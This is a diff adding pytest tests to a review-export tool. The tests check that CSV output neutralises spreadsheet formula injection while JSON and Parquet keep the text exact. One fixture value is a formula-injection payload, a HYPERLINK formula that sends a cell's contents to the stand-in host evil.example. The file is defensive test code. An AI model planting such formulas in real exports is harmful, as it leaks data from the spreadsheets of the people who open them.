@@ -118,3 +118,61 @@ def test_bad_filters_are_one_clear_error(run, args: list[str], message: str) -> 
     result = run(*args)
     assert result.exit_code == 2
     assert result.stderr.startswith("error: ") and message in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]
+
+
+def _add_formula_mentions(seeded: Seeded) -> None:
+    from storage.mentions import MentionData, write_mentions
+    from storage.models import Source
+
+    with seeded.store.transaction() as session:
+        source = session.query(Source).filter_by(type="feed").one()
+        write_mentions(session, business_id=source.business_id, source_id=source.id, items=[
+            MentionData(external_id=f"f{i}", text=text, author=text, title=text, language="en",
+                        url=f"https://reviews.example/f{i}", rating=2, rating_scale=5)
+            for i, text in enumerate(FORMULAS)
+        ])
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(run, seeded: Seeded,
+                                                           tmp_path: Path) -> None:
+    _add_formula_mentions(seeded)
+    out = tmp_path / "formulas.csv"
+    result = run("--business", "shop-b", "--format", "csv", "--output", str(out))
+    assert result.exit_code == 0, result.output
+    rows = [r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))
+            if r["text"].lstrip("'") in FORMULAS]
+    assert sorted(r["text"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    for row in rows:
+        assert row["author"] == row["title"] == row["text"]  # every text column, not only one
+        assert row["rating"] == "2.0"  # numbers stay numbers
+    kept = {r["mention_id"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
+    assert any(r["text"].startswith("The parcel") for r in kept.values())  # plain text untouched
+
+
+def test_json_and_parquet_keep_formula_like_text_exact(run, seeded: Seeded, tmp_path: Path) -> None:
+    _add_formula_mentions(seeded)
+    result = run("--business", "shop-b", "--format", "json")
+    assert result.exit_code == 0, result.output
+    texts = {item["text"] for item in json.loads(result.stdout)}
+    assert set(FORMULAS) <= texts
+    out = tmp_path / "formulas.parquet"
+    assert run("--business", "shop-b", "--format", "parquet", "--output", str(out)).exit_code == 0
+    assert set(FORMULAS) <= set(pq.read_table(out).column("text").to_pylist())
+
+
+def test_every_csv_the_project_writes_uses_the_neutralising_writer() -> None:
+    """A new CSV writer elsewhere would bypass reviewwatch/csvsafe.py: none may exist."""
+    from tests.conftest import REPO
+
+    offenders = []
+    for package in ("reviewwatch", "storage", "crawler", "sentiment"):
+        for path in (REPO / package).rglob("*.py"):
+            text = path.read_text(encoding="utf-8")
+            if path.name != "csvsafe.py" and ("csv.writer(" in text or "DictWriter(" in text
+                                               or ".to_csv(" in text):
+                offenders.append(str(path.relative_to(REPO)))
+    assert offenders == []
